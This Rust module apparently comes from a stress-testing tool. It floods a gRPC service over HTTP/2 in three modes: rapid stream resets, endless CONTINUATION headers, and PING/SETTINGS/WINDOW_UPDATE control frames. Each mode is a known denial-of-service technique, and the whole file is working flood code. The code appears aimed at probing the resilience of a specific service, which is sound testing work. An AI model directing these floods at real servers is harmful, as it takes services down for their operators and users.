//! Endless: frames without an end, as fast as they are taken.

use std::io;
use std::sync::atomic::{AtomicU64, Ordering};

use super::{Aim, long_page};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire,
    call, frame, header,
};

/// What does not end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Endless {
    /// Calls that are reset as soon as they have begun.
    Resets,
    /// Headers of one call.
    Continuations,
    /// Pings, settings and windows, without a call.
    Control,
}

impl Endless {
    pub(super) async fn go_on(self, aim: &Aim, rounds: &AtomicU64) -> io::Result<()> {
        let mut wire = Wire::greeted(aim.service, &[]).await?;
        let block = call("SetLogService/ListSets", Some(&aim.key));
        if self == Self::Continuations {
            wire.write(&frame(HEADERS, 0, 1, &block)).await?;
        }
        for number in 0..u32::MAX / 256 {
            let batch: Vec<u8> =
                (0..64).flat_map(|at| self.next(&block, 2 * (64 * number + at) + 1, aim)).collect();
            wire.write(&batch).await?;
            rounds.fetch_add(1, Ordering::Relaxed);
            wire.drain()?;
            tokio::task::yield_now().await;
        }
        Ok(())
    }

    fn next(self, block: &[u8], stream: u32, aim: &Aim) -> Vec<u8> {
        match self {
            Self::Resets => [
                frame(HEADERS, END_HEADERS, stream, block),
                frame(DATA, END_STREAM, stream, &long_page(&aim.athlete)),
                // 8: no longer wanted.
                frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            ]
            .concat(),
            Self::Continuations => frame(CONTINUATION, 0, 1, &header("x-more", &"x".repeat(1000))),
            Self::Control => [
                frame(PING, 0, 0, &[0; 8]),
                frame(SETTINGS, 0, 0, &[]),
                frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            ]
            .concat(),
        }
    }
}
